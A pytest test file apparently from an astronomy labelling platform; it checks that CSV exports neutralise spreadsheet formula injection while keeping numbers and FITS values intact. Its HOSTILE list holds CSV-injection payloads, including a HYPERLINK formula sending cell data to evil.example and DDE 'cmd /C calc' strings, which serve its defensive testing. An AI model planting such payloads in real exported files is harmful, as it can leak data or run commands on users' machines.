"""CSV injection (issue #24): every CSV the platform writes neutralises formula cells
(OWASP), numbers stay numbers, the round trip is exact, FITS keeps the raw values."""

from __future__ import annotations

import csv
import io

import numpy as np
import pytest
from astropy.io import fits

from labelapp.models import Candidate
from labelapp.services.learning.holdout import write_sample
from labelapp.services.science import exports as svc
from mlcore.csv_safe import SafeWriter, restore_cell, safe_cell
from mlcore.survey_io import write_external

HOSTILE = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd",
]
HARMLESS = ["cosmos", "", "a=b", "x@y.org", "'", "'a", "1-2", "2026-12-06T09:00:00+00:00"]
QUOTED = ["'=1", "''", "'-", "''x"]  # text that itself starts with the escape character
PLAIN_NUMBERS = ["-3", "+2.5e3", "-0.5", "-.5", "12"]


def _round_trip(values):
    buf = io.StringIO()
    SafeWriter(buf).writerow(values)
    (row,) = csv.reader(io.StringIO(buf.getvalue()))
    return row


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_are_neutralised_and_restore_exactly(text):
    (cell,) = _round_trip([text])
    assert cell == "'" + text  # a spreadsheet shows it as text
    assert restore_cell(cell) == text


@pytest.mark.parametrize("text", HARMLESS + QUOTED + PLAIN_NUMBERS)
def test_other_text_round_trips_exactly(text):
    (cell,) = _round_trip([text])
    assert restore_cell(cell) == text
    if text in HARMLESS or text in PLAIN_NUMBERS:
        assert cell == text  # untouched


def test_numbers_stay_numbers_negative_ones_included():
    row = _round_trip([-1.5, -3, np.float32(-2.25), np.int16(-7), -1e-17, None, True])
    assert row == ["-1.5", "-3", "-2.25", "-7", "-1e-17", "", "True"]
    assert safe_cell(-1.5) == -1.5 and safe_cell(np.float64(-2.0)) == -2.0


@pytest.mark.django_db
def test_catalogue_csv_neutralises_survey_strings_and_fits_keeps_them(tmp_path):
    from labelapp.services.survey.ingest import ingest_survey
    from mlcore.survey_io import write_survey
    from tests.factories import make_survey

    ingest_survey(path=write_survey(tmp_path / "s.fits", make_survey(len(HOSTILE))))
    cands = list(Candidate.objects.order_by("detectid"))
    for c, text in zip(cands, HOSTILE, strict=True):  # as if a survey file carried them
        Candidate.objects.filter(pk=c.pk).update(field=text[:32])
    body = b"".join(svc.open_catalogue_export(fmt="csv").chunks).decode()
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    for row, text in zip(rows, HOSTILE, strict=True):
        assert row["field"] == "'" + text[:32]
        assert restore_cell(row["field"]) == text[:32]
        assert float(row["dec"]) == pytest.approx(float(row["dec"]))  # numbers unprefixed
        assert not row["ra"].startswith("'") and not row["dec"].startswith("'")
    fits_bytes = b"".join(svc.open_catalogue_export(fmt="fits").chunks)
    with fits.open(io.BytesIO(fits_bytes)) as hdul:
        fields = [f.rstrip() for f in hdul[1].data["field"]]
        width = int(hdul[1].columns["field"].format[:-1])  # the FITS column's fixed width
    # the raw values (not prefixed: FITS is no spreadsheet), cut to the column's width
    assert sorted(fields) == sorted(t[:32][:width].rstrip() for t in HOSTILE)


@pytest.mark.django_db
def test_holdout_sample_csv_is_neutralised(tmp_path):
    from tests.factories_volunteers import make_candidates

    (c,) = make_candidates(1)
    Candidate.objects.filter(pk=c.pk).update(field="=1+2")
    write_sample([c.pk], tmp_path / "sample.csv")
    rows = list(csv.DictReader(open(tmp_path / "sample.csv", newline="")))
    assert rows[0]["field"] == "'=1+2"


def test_external_csv_keeps_negative_numbers_numeric(tmp_path):
    from mlcore.survey_io import EXTERNAL_COLUMNS, read_external

    n = 3
    cols = {k: np.zeros(n, dt) for k, dt in EXTERNAL_COLUMNS.items()}
    cols["dec"] = np.array([-1.5, -30.25, 2.0])
    path = write_external(tmp_path / "ext.csv", cols)
    assert "'" not in path.read_text()
    np.testing.assert_allclose(read_external(path)["dec"], cols["dec"])
